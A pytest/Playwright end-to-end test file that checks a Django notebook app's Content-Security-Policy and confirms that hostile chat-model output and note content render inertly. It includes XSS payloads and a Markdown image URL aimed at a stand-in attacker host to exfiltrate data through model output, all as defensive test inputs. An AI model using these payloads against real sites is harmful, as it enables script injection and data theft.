"""The Content-Security-Policy in a real browser: the pages, their HTMX interactions, the admin,
the API docs and the chat over its WebSocket all work under the policy the app sends, with not
one violation; and a hostile answer (the fake chat model emitting the hostile samples) stays
inert while it streams in, once done and after a reload.

The app runs as in production: notebook.asgi.application under daphne (as in test_chat.py),
with its own CSP middleware, no policy added by the test.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import urlsplit

import pytest
from django.contrib.auth.models import User
from django.contrib.staticfiles.handlers import ASGIStaticFilesHandler
from playwright.sync_api import Browser, ConsoleMessage, Page, expect

from chat import services as chat_services
from chat.model_output import strip_special_tokens
from chat.models import Conversation, Message
from notes.models import Note
from notes.services import note_create, notebook_create
from tests.daphne_server import start_daphne
from tests.e2e.helpers import login
from tests.fake_chat import Answer, FakeChat, Metadata, ToolCall, fake_chat_server
from tests.fixtures.markdown import HOSTILE_SAMPLES

pytestmark = pytest.mark.e2e

PASSWORD = "Sturdy-Tulip-4821"
ANSWER_TIMEOUT = 60_000  # ms, the embedding model loading for the search included
HOSTILE = "\n\n".join(HOSTILE_SAMPLES.values())
HOSTILE_ANSWER = "The sources say [1].\n\n" + HOSTILE
# Answerable from the plain note the hostile-answer test adds (the evidence rule refuses
# questions the sources do not carry before any model writes), hostile all the same.
QUESTION = (
    "How are images and scripts shown in answers? <img src=https://attacker.example/question.png>"
)

# Reports every violation to the test, from every page the context opens (before any script
# of the page runs).
REPORT_VIOLATIONS = """
document.addEventListener("securitypolicyviolation", (event) => {
    window.__cspViolation({
        directive: event.violatedDirective,
        blocked: event.blockedURI,
        source: event.sourceFile,
        line: event.lineNumber,
        sample: event.sample,
        page: location.href,
    });
});
"""
# What a page shows of model or note content may load and run nothing: no element that loads
# from elsewhere or embeds, no handler or style attribute, links only http(s), mailto or here.
INERT_DOM = """
() => {
    const bad = [];
    for (const el of document.querySelectorAll("*")) {
        const tag = el.tagName.toLowerCase();
        if (["img", "iframe", "object", "embed", "picture", "video", "audio", "svg", "math",
             "style", "base", "frame"].includes(tag)) {
            bad.push(el.outerHTML.slice(0, 200));
        }
        for (const attr of el.attributes) {
            if (/^on/i.test(attr.name) || ["style", "srcset", "formaction"].includes(attr.name)) {
                bad.push(`${tag} ${attr.name}="${attr.value}"`);
            }
        }
        const src = el.getAttribute("src");
        if (src && new URL(src, location.href).origin !== location.origin) {
            bad.push(`${tag} src="${src}"`);
        }
        if (tag === "a" && el.hasAttribute("href")) {
            const url = new URL(el.getAttribute("href"), location.href);
            if (!["http:", "https:", "mailto:"].includes(url.protocol)) {
                bad.push(`a href="${el.getAttribute("href")}"`);
            }
        }
    }
    return bad;
}
"""


def _asgi_application() -> Any:  # module level: the server process calls it
    from channels.routing import get_default_application

    return ASGIStaticFilesHandler(get_default_application())


@dataclass
class Watch:
    """Everything the browser reported that a policy-abiding page never causes."""

    origin: str
    violations: list[dict[str, Any]] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)
    foreign_requests: list[str] = field(default_factory=list)
    dialogs: list[str] = field(default_factory=list)

    def console(self, message: ConsoleMessage) -> None:
        where = message.location.get("url", "")
        if where.endswith("/favicon.ico"):  # the browser's own guess on the admin's pages
            return
        if message.type in ("error", "warning") or "Content Security Policy" in message.text:
            self.errors.append(f"console.{message.type}: {message.text} ({where})")

    @property
    def host(self) -> str:
        return urlsplit(self.origin).netloc

    def request(self, url: str) -> None:
        parts = urlsplit(url)
        if parts.scheme in ("http", "https", "ws", "wss") and parts.netloc != self.host:
            self.foreign_requests.append(url)

    def assert_clean(self) -> None:
        assert self.violations == [], self.violations
        assert self.errors == [], "\n".join(self.errors)
        assert self.foreign_requests == [], self.foreign_requests
        assert self.dialogs == [], self.dialogs


@pytest.fixture
def model(settings) -> Iterator[FakeChat]:
    """The chat model (a local server speaking OpenAI's protocol), set before the server
    process starts so that it inherits the settings."""
    with fake_chat_server() as server:
        settings.CHAT_MODEL = "fake-model"
        settings.OPENAI_BASE_URL = f"{server.url}/v1"
        settings.OPENAI_API_KEY = "test-key"
        yield server
        server.gate.set()


@pytest.fixture
def asgi_server(transactional_db, model: FakeChat) -> Iterator[str]:
    server = start_daphne(_asgi_application)
    try:
        yield f"http://localhost:{server.port.value}"
    finally:
        server.terminate()
        server.join(10)


@pytest.fixture
def watched(browser: Browser, asgi_server: str) -> Iterator[tuple[Page, Watch]]:
    context = browser.new_context(
        base_url=asgi_server, viewport={"width": 1280, "height": 900}, locale="en-US"
    )
    context.set_default_timeout(10_000)
    watch = Watch(origin=asgi_server)
    context.expose_binding("__cspViolation", lambda _source, v: watch.violations.append(v))
    context.add_init_script(REPORT_VIOLATIONS)
    context.on("request", lambda request: watch.request(request.url))
    page = context.new_page()
    page.on("console", watch.console)
    page.on("pageerror", lambda exc: watch.errors.append(f"uncaught: {exc}"))
    page.on("websocket", lambda ws: watch.request(ws.url))
    page.on(
        "response",
        lambda r: watch.errors.append(f"HTTP {r.status}: {r.url}") if r.status >= 400 else None,
    )

    def on_dialog(dialog: Any) -> None:
        watch.dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", on_dialog)
    yield page, watch
    context.close()


@pytest.fixture
def note(transactional_db) -> Note:
    """A staff user's notebook with a note holding every hostile sample."""
    user = User.objects.create_user(
        username="casey", password=PASSWORD, is_staff=True, is_superuser=True
    )
    notebook = notebook_create(owner=user, title="Policies")
    return note_create(notebook=notebook, author=user, title="Hostile", body=HOSTILE)


@pytest.fixture
def conversation(note: Note) -> Conversation:
    return chat_services.conversation_create(owner=note.notebook.owner, notebook=note.notebook)


def assert_inert(page: Page) -> None:
    assert page.evaluate(INERT_DOM) == [], page.url


def test_pages_htmx_admin_and_api_docs_hold_the_policy(
    watched: tuple[Page, Watch], note: Note, conversation: Conversation
) -> None:
    page, watch = watched
    login(page, "casey", PASSWORD)
    response = page.goto("/")
    assert response is not None
    policy = response.headers["content-security-policy"]
    assert "script-src 'self';" in policy
    assert "'unsafe-inline'" not in policy

    page.goto(f"/notebooks/{note.notebook_id}/")
    expect(page.get_by_role("heading", name="Policies")).to_be_visible()
    assert_inert(page)
    page.goto(f"/notes/{note.pk}/")
    expect(page.locator("#note-body")).to_contain_text("<script>alert(1)</script>")
    assert_inert(page)

    # HTMX: the preview is swapped in, rendered and sanitized on the server.
    page.goto(f"/notes/{note.pk}/edit/")
    page.locator("textarea[name=body]").fill(HOSTILE + "\n\n**previewed**")
    page.get_by_role("button", name="Preview", exact=True).click()
    expect(page.locator("#preview strong")).to_have_text("previewed")
    assert_inert(page)

    # HTMX: a token is created and the section swapped.
    page.goto("/settings/")
    page.locator("#tokens input[name=name]").fill("policy check")
    page.get_by_role("button", name="Create token", exact=True).click()
    expect(page.locator("#new-token")).to_have_value(re.compile(r"^nbk_"))

    page.goto("/search/")
    expect(page.get_by_role("heading", name="Search your notes and PDFs")).to_be_visible()
    page.goto(f"/notebooks/{note.notebook_id}/chats/")
    page.goto(f"/chats/{conversation.pk}/")
    expect(page.locator("#chat")).to_have_attribute("data-socket", "open")  # ws extension

    # The admin and the API docs (Swagger UI, from ninja's static files).
    page.goto("/admin/")
    expect(page.locator("#site-name")).to_contain_text("Notebook administration")
    page.goto("/admin/notes/note/")
    page.goto(f"/admin/notes/note/{note.pk}/change/")
    expect(page.locator("input[name=title]")).to_have_value("Hostile")
    page.goto("/api/docs")
    expect(page.locator(".swagger-ui .title").first).to_contain_text("Notebook API")
    expect(page.locator(".opblock").first).to_be_visible()

    watch.assert_clean()


def test_a_hostile_answer_stays_inert_live_when_done_and_after_reload(
    watched: tuple[Page, Watch], model: FakeChat, conversation: Conversation
) -> None:
    page, watch = watched
    note_create(
        notebook=conversation.notebook, author=conversation.owner, title="Plain",
        body="Images and scripts in answers are shown as text, never loaded or run.",
    )  # fmt: skip
    query = "<img src=https://attacker.example/query.png onerror=alert(1)>"
    model.script = [
        ToolCall("document_search", {"query": query}),
        Answer(HOSTILE_ANSWER, chunk_size=7, pause_after=40),  # stops mid-answer until the gate
        Metadata(
            {
                "confidence": "high",
                "follow_ups": ['"><img src=https://attacker.example/f.png onerror=alert(1)>'],
                "answerable": True,
                "citations": [],
            }
        ),
    ]
    login(page, "casey", PASSWORD)
    page.goto(f"/chats/{conversation.pk}/")
    expect(page.locator("#chat")).to_have_attribute("data-socket", "open")
    asked = page.get_by_label("Your question", exact=True)
    asked.fill(QUESTION)
    asked.press("Enter")
    expect(page.locator(".message-user")).to_have_text(QUESTION)

    # Live: the streamed text is text, whatever it says.
    answer = page.locator("article.message-assistant")
    text = answer.locator(".streaming-text")
    expect(text).to_contain_text("![x](https://attacker.example/?q=secret)", timeout=ANSWER_TIMEOUT)
    assert text.evaluate("el => el.children.length") == 0
    assert_inert(page)

    model.gate.set()
    expect(answer).to_have_attribute("data-status", "complete", timeout=ANSWER_TIMEOUT)
    rendered = answer.get_by_test_id("answer")
    # Model output links only to URLs of its cited sources or the question: this one is text.
    expect(rendered.locator("a[href*='attacker.example']")).to_have_count(0)
    expect(rendered).to_contain_text("x (https://attacker.example/?q=secret)")
    expect(rendered).to_contain_text("<script>alert(1)</script>")  # raw HTML shows as text
    expect(answer.get_by_test_id("follow-up")).to_contain_text("<img src=")
    assert_inert(page)
    before = rendered.inner_html()

    page.reload()
    expect(answer).to_have_attribute("data-status", "complete")
    assert rendered.inner_html() == before
    assert_inert(page)

    saved = Message.objects.get(role="assistant")
    # Saved as written, but for its unverified [1] (citations are renumbered; unverified
    # markers go, and the page says how many there were) and for entities outside code,
    # decoded as Markdown shows them anyway (chat.model_output).
    assert saved.content == strip_special_tokens(HOSTILE_ANSWER).replace(" [1]", "")
    watch.assert_clean()
